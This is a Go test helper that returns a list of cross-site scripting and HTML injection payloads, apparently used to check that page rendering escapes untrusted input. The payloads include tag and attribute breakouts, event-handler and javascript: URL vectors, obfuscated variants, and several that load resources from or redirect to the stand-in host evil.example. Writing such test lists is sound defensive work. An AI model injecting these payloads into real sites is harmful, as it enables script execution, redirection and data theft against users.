package pagetest

// Scripts are texts that are markup, or run, where they are not taken as text. They call pwned.
func Scripts() []string {
	return []string{
		`<script>pwned()</script>`, `"><script>pwned()</script>`, `'><script>pwned()</script>`, `</style><script>pwned()</script>`,
		`</script><script>pwned()</script>`, `</title><script>pwned()</script>`, `--><script>pwned()</script>`,
		`]]><script>pwned()</script>`, `<img src=x onerror=pwned()>`, `"onmouseover="pwned()`, `' onfocus='pwned()' autofocus='`,
		`<svg onload=pwned()>`, `<svg/onload=pwned()//`, `<iframe srcdoc="<script>parent.pwned()</script>">`, `<body onload=pwned()>`,
		`javascript:pwned()`, `JaVaScRiPt:pwned()`, "java\nscript:pwned()", "\x01javascript:pwned()", `data:text/html,<script>pwned()</script>`,
		`<a href="javascript:pwned()">x</a>`, `<base href="https://evil.example/">`, `<link rel=stylesheet href=https://evil.example/x.css>`,
		`<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<form action=https://evil.example/><button>`,
		`<details open ontoggle=pwned()>`, `<math><mtext></table><script>pwned()</script>`, `{{.}} ${pwned()} {%pwned()%}`,
		`<template><script>pwned()</script></template>`, "\u2028pwned()//", `&lt;script&gt;pwned()&lt;/script&gt;`, `<!--<img src=x>`,
		`<style>@import 'https://evil.example/x.css';</style>`, `<object data=https://evil.example/x>`,
	}
}
